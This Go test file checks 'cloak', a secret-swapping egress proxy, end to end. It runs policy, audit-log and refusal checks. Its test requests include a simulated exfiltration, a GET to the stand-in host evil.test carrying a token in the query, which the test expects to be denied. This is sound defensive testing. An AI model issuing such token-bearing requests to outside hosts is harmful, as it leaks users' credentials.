package launcher

import (
	"bufio"
	"bytes"
	"crypto/tls"
	"crypto/x509"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/http/httptest"
	"net/url"
	"os"
	"path/filepath"
	"strings"
	"sync"
	"testing"

	"github.com/cloak-dev/cloak/ca"
)

// The test binary doubles as the child of a run: with CLOAK_TEST_CHILD set
// it makes the requests listed in CLOAK_TEST_REQUESTS through the proxy
// cloak gave it, and prints what it got.
func TestMain(m *testing.M) {
	if os.Getenv("CLOAK_TEST_CHILD") != "" {
		os.Exit(testChild())
	}
	os.Exit(m.Run())
}

type childRequest struct {
	Method string            `json:"method"`
	URL    string            `json:"url"`
	Header map[string]string `json:"header"` // values: $NAME is the child's env var
}

type childResult struct {
	Status   int    `json:"status"`
	Decision string `json:"decision"`
	Err      string `json:"err"`
}

func testChild() int {
	fmt.Fprintln(os.Stderr, "CHILD-START")
	defer fmt.Fprintln(os.Stderr, "CHILD-END")
	var reqs []childRequest
	if err := json.Unmarshal([]byte(os.Getenv("CLOAK_TEST_REQUESTS")), &reqs); err != nil {
		fmt.Fprintln(os.Stderr, "child:", err)
		return 3
	}
	pem, err := os.ReadFile(os.Getenv("NODE_EXTRA_CA_CERTS"))
	if err != nil {
		fmt.Fprintln(os.Stderr, "child:", err)
		return 3
	}
	pool := x509.NewCertPool()
	pool.AppendCertsFromPEM(pem)
	tr := &http.Transport{Proxy: http.ProxyFromEnvironment, TLSClientConfig: &tls.Config{RootCAs: pool}}
	enc := json.NewEncoder(os.Stdout)
	for _, r := range reqs {
		req, err := http.NewRequest(r.Method, r.URL, nil)
		if err != nil {
			fmt.Fprintln(os.Stderr, "child:", err)
			return 3
		}
		for k, v := range r.Header {
			req.Header.Set(k, os.ExpandEnv(v))
		}
		var out childResult
		res, err := tr.RoundTrip(req)
		if err != nil {
			out.Err = err.Error()
		} else {
			_, _ = io.Copy(io.Discard, res.Body)
			res.Body.Close()
			out.Status, out.Decision = res.StatusCode, res.Header.Get("X-Cloak-Decision")
		}
		_ = enc.Encode(out)
	}
	tr.CloseIdleConnections()
	return 0
}

// upstreams answer for every host name over TLS (certificates from a CA
// of their own, which the run trusts with --upstream-ca) and over plain
// HTTP, and record what they saw.
type upstreams struct {
	tlsAddr, plainAddr string
	caFile             string
	mu                 sync.Mutex
	seen               []string // "host path header-values..."
}

func newUpstreams(t *testing.T) *upstreams {
	t.Helper()
	u := &upstreams{}
	authority, err := ca.New("test upstream")
	if err != nil {
		t.Fatal(err)
	}
	h := http.HandlerFunc(func(w http.ResponseWriter, r *http.Request) {
		u.mu.Lock()
		u.seen = append(u.seen, r.Host+" "+r.URL.Path+" "+r.Header.Get("X-Api-Key")+" "+r.Header.Get("Authorization"))
		u.mu.Unlock()
		_, _ = io.WriteString(w, `{"ok":true}`)
	})
	s := httptest.NewUnstartedServer(h)
	s.TLS = &tls.Config{GetCertificate: func(hello *tls.ClientHelloInfo) (*tls.Certificate, error) { return authority.Leaf(hello.ServerName) }}
	s.StartTLS()
	t.Cleanup(s.Close)
	p := httptest.NewServer(h)
	t.Cleanup(p.Close)
	u.tlsAddr, u.plainAddr = s.Listener.Addr().String(), p.Listener.Addr().String()
	u.caFile = filepath.Join(t.TempDir(), "upstream-ca.pem")
	if err := os.WriteFile(u.caFile, authority.PEM(), 0o600); err != nil {
		t.Fatal(err)
	}
	return u
}

func (u *upstreams) saw() []string {
	u.mu.Lock()
	defer u.mu.Unlock()
	return append([]string(nil), u.seen...)
}

const (
	runAnthropic = "sk-ant-api03-RUNREALRUNREALRUNREALRUNREAL"
	runMine      = "mine-REAL-token-0123456789abcdef"
)

// runSession runs the test binary as the child of a full cloak run.
func runSession(t *testing.T, reqs []childRequest, verbose bool) (dir string, up *upstreams, stdout, stderr string, code int, o Options) {
	t.Helper()
	dir = t.TempDir()
	t.Setenv("HOME", dir)
	t.Setenv("XDG_CONFIG_HOME", filepath.Join(dir, "config"))
	t.Setenv("XDG_STATE_HOME", filepath.Join(dir, "state"))
	up = newUpstreams(t)
	write := func(name, content string) string {
		p := filepath.Join(dir, name)
		if err := os.WriteFile(p, []byte(content), 0o600); err != nil {
			t.Fatal(err)
		}
		return p
	}
	envFile := write("secrets.env", "ANTHROPIC_API_KEY="+runAnthropic+"\nMY_TOKEN="+runMine+"\n")
	policyFile := write("policy.toml", `[egress]
default = "deny"
allow = ["*.example.com"]

[secrets.MY_TOKEN]
hosts = ["api.example.com"]
places = ["header:authorization"]
`)
	project := filepath.Join(dir, "project")
	if err := os.Mkdir(project, 0o700); err != nil {
		t.Fatal(err)
	}
	write("project/"+projectPolicy, "[egress]\ndeny = [\"ads.example.com\"]\n")
	body, _ := json.Marshal(reqs)
	var out, errb bytes.Buffer
	exe, err := os.Executable()
	if err != nil {
		t.Fatal(err)
	}
	var resolve []string
	for _, h := range []string{"api.anthropic.com", "api.example.com", "pass.example.com", "ads.example.com", "evil.test"} {
		resolve = append(resolve, h+":443:"+up.tlsAddr)
	}
	resolve = append(resolve, "plain.example.com:80:"+up.plainAddr)
	o = Options{
		Command:    []string{exe},
		EnvFiles:   []string{envFile},
		Policy:     policyFile,
		ProjectDir: project,
		Resolve:    resolve,
		UpstreamCA: []string{up.caFile},
		AuditLog:   filepath.Join(dir, "logs", "audit.log"),
		Verbose:    verbose,
		Environ:    []string{"PATH=" + os.Getenv("PATH"), "HOME=" + dir, "CLOAK_TEST_CHILD=1", "CLOAK_TEST_REQUESTS=" + string(body)},
		Stdin:      strings.NewReader(""),
		Stdout:     &out,
		Stderr:     &errb,
	}
	code, err = Run(o)
	if err != nil {
		t.Fatalf("run: %v\nstderr:\n%s", err, errb.String())
	}
	return dir, up, out.String(), errb.String(), code, o
}

// dummyPlace says whose dummy a test request carries, and where.
func dummyPlace(r childRequest) (secret, place string) {
	for k, v := range r.Header {
		if i := strings.Index(v, "$"); i >= 0 {
			return v[i+1:], "header:" + strings.ToLower(k)
		}
	}
	if u, err := url.Parse(r.URL); err == nil {
		for k, vs := range u.Query() {
			if strings.HasPrefix(vs[0], "$") {
				return vs[0][1:], "query:" + k
			}
		}
	}
	return "", ""
}

var sessionRequests = []childRequest{
	{"POST", "https://api.anthropic.com/v1/messages?beta=true", map[string]string{"x-api-key": "$ANTHROPIC_API_KEY"}},
	{"GET", "https://api.anthropic.com/admin/keys", map[string]string{"x-api-key": "$ANTHROPIC_API_KEY"}},
	{"GET", "https://api.example.com/v1/items?page=2", map[string]string{"Authorization": "Bearer $MY_TOKEN"}},
	{"GET", "https://pass.example.com/", nil},
	{"GET", "https://ads.example.com/", nil},
	{"GET", "https://evil.test/?q=$MY_TOKEN", nil},
	{"GET", "http://plain.example.com/x", nil},
	{"GET", "http://plain.example.com/x", map[string]string{"Authorization": "Bearer $MY_TOKEN"}},
}

// TestRunEndToEnd runs a whole session: policy from a file and a project
// file, egress deny, swaps, refusals, and the audit log and the summary
// that come out of it.
func TestRunEndToEnd(t *testing.T) {
	dir, up, stdout, stderr, code, o := runSession(t, sessionRequests, false)
	if code != 0 {
		t.Fatalf("exit %d\nstdout:\n%s\nstderr:\n%s", code, stdout, stderr)
	}

	// What the child got, request by request, and what `cloak policy
	// explain` says of the same request with the same inputs.
	want := []struct {
		childResult
		decision string
	}{
		{childResult{Status: 200}, "allowed"},
		{childResult{Status: 403, Decision: "tripwire"}, "tripwire"},
		{childResult{Status: 200}, "allowed"},
		{childResult{Status: 200}, "passed-through"},
		{childResult{Err: "Forbidden"}, "denied-host"},
		{childResult{Err: "Forbidden"}, "denied-host"},
		{childResult{Status: 200}, "allowed"},
		{childResult{Status: 403, Decision: "tripwire"}, "tripwire"},
	}
	in, err := o.load(func(string) {})
	if err != nil {
		t.Fatal(err)
	}
	pp := in.pol.proxyPolicy()
	sc := bufio.NewScanner(strings.NewReader(stdout))
	n := 0
	for i := 0; sc.Scan(); i++ {
		var got childResult
		if err := json.Unmarshal(sc.Bytes(), &got); err != nil || i >= len(want) {
			t.Fatalf("child output line %d: %q", i, sc.Text())
		}
		w := want[i]
		if got.Status != w.Status || got.Decision != w.Decision || !strings.Contains(got.Err, w.Err) || (w.Err == "") != (got.Err == "") {
			t.Errorf("request %d (%s %s): got %+v, want %+v", i, sessionRequests[i].Method, sessionRequests[i].URL, got, w.childResult)
		}
		r := sessionRequests[i]
		secret, place := dummyPlace(r)
		v, err := pp.Decide(r.Method, strings.ReplaceAll(r.URL, "$", ""))
		if err != nil {
			t.Fatal(err)
		}
		if got := v.Outcome(secret, place); got != w.decision {
			t.Errorf("request %d (%s %s): explain says %s, the run did %s", i, r.Method, r.URL, got, w.decision)
		}
		n++
	}
	if n != len(want) {
		t.Fatalf("child made %d requests, want %d", n, len(want))
	}

	// What the upstreams saw: real values only where bound.
	saw := strings.Join(up.saw(), "\n")
	for _, w := range []string{
		"api.anthropic.com /v1/messages " + runAnthropic,
		"api.example.com /v1/items  Bearer " + runMine,
		"plain.example.com /x",
	} {
		if !strings.Contains(saw, w) {
			t.Errorf("upstreams did not see %q in:\n%s", w, saw)
		}
	}
	for _, never := range []string{"/admin/keys", "ads.example.com", "evil.test"} {
		if strings.Contains(saw, never) {
			t.Errorf("upstreams saw %q:\n%s", never, saw)
		}
	}

	// The audit log: private, one JSON object per line, every decision.
	logPath := filepath.Join(dir, "logs", "audit.log")
	st, err := os.Stat(logPath)
	if err != nil {
		t.Fatal(err)
	}
	if st.Mode().Perm() != 0o600 {
		t.Errorf("audit log mode %v, want 0600", st.Mode().Perm())
	}
	data, _ := os.ReadFile(logPath)
	decisions := map[string]int{}
	for _, l := range strings.Split(strings.TrimSpace(string(data)), "\n") {
		var e auditEntry
		if err := json.Unmarshal([]byte(l), &e); err != nil {
			t.Fatalf("audit line is not JSON: %q", l)
		}
		if e.Event != "" {
			decisions["event:"+e.Event]++
		} else {
			decisions[e.Decision]++
		}
	}
	for d, n := range map[string]int{"event:start": 1, "event:end": 1, "allowed": 3, "tripwire": 2, "denied-host": 2, "passed-through": 1} {
		if decisions[d] != n {
			t.Errorf("audit log has %d %s lines, want %d:\n%s", decisions[d], d, n, data)
		}
	}

	// Nothing cloak wrote holds a real value.
	for name, text := range map[string]string{"audit log": string(data), "stdout": stdout, "stderr": stderr} {
		for _, real := range []string{runAnthropic, runMine} {
			if strings.Contains(text, real) {
				t.Errorf("%s holds a real value", name)
			}
		}
	}

	// The terminal: nothing from cloak while the child ran; after it, one
	// line with the counts and the first refusal.
	before, rest, ok := strings.Cut(stderr, "CHILD-START\n")
	during, after, ok2 := strings.Cut(rest, "CHILD-END\n")
	if !ok || !ok2 {
		t.Fatalf("stderr without the child's markers:\n%s", stderr)
	}
	if strings.Contains(before, "cloak:") && !strings.Contains(before, "warning") || strings.Contains(during, "cloak") {
		t.Errorf("cloak wrote while the child ran:\n%s", stderr)
	}
	lines := strings.Split(strings.TrimSpace(after), "\n")
	if len(lines) != 1 || !strings.HasPrefix(lines[0], "cloak: warning: refused 4 request(s) (2 denied-host, 2 tripwire); first: tripwire: GET api.anthropic.com:443/admin/keys: ") ||
		!strings.Contains(lines[0], "(cloak audit --session ") || !strings.Contains(lines[0], "--audit-log "+logPath) {
		t.Errorf("summary after the run:\n%s", after)
	}

	// `cloak audit` on the log just written shows every line.
	var shown bytes.Buffer
	if err := Audit(AuditOptions{Path: logPath, Out: &shown}); err != nil {
		t.Fatal(err)
	}
	if n := strings.Count(shown.String(), "\n"); n != len(strings.Split(strings.TrimSpace(string(data)), "\n"))+2 {
		t.Errorf("cloak audit printed %d lines for the log:\n%s", n, shown.String())
	}
}

func TestRunVerboseSummary(t *testing.T) {
	_, _, _, stderr, code, _ := runSession(t, sessionRequests[:2], true)
	if code != 0 {
		t.Fatalf("exit %d", code)
	}
	_, after, _ := strings.Cut(stderr, "CHILD-END\n")
	for _, want := range []string{
		"cloak: info: 3 request(s) and tunnel(s): 1 allowed, 1 intercepted, 1 tripwire (audit log: ",
		"cloak: info: refused tripwire: GET api.anthropic.com:443/admin/keys: the dummy for ANTHROPIC_API_KEY",
		"cloak: warning: refused 1 request(s) (1 tripwire); first: tripwire: GET",
	} {
		if !strings.Contains(after, want) {
			t.Errorf("-v summary lacks %q:\n%s", want, after)
		}
	}
	before, _, _ := strings.Cut(stderr, "CHILD-START\n")
	if !strings.Contains(before, "cloak: info: policy file: ") {
		t.Errorf("-v does not name the policy file:\n%s", before)
	}
}
